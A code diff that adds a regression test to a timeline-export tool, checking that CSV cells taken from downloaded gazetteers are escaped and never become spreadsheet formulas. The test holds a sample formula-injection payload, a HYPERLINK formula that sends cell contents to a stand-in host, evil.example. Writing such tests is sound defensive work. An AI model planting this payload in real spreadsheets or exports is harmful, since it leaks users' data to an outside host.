@@ -120,6 +120,20 @@ def test_timeline_chart_and_exports(ws: Workspace) -> None:
     assert len(gj["features"]) == 3 and gj["features"][0]["properties"]["sha256"]
 
 
+def test_timeline_csv_cells_from_gazetteers_are_never_formulas(ws: Workspace) -> None:
+    """A berth id "=HYPERLINK(…)" from a downloaded gazetteer reached the CSV as a formula a spreadsheet would run."""
+    import dataclasses
+
+    with ws.store() as st:
+        tl = load_timeline(st, "dunai")
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    row = dataclasses.replace(tl.rows[1], departure_berths=(evil,), at_berth={"@SUM(1)": 1})
+    tl = dataclasses.replace(tl, rows=(tl.rows[0], row))
+    rows = list(csv.DictReader(io.StringIO(timeline_to_csv(tl))))
+    assert rows[1]["departure_berths"] == "'" + evil and rows[1]["at_berth"] == "'@SUM(1):1"
+    assert rows[0]["vessels"] == "1" and rows[0]["date"][:1] == "2"  # numbers and dates as they were
+
+
 def test_cli_timeline_writes_csv_json_chart(ws: Workspace, tmp_path: Path) -> None:
     res = CliRunner().invoke(
         main,
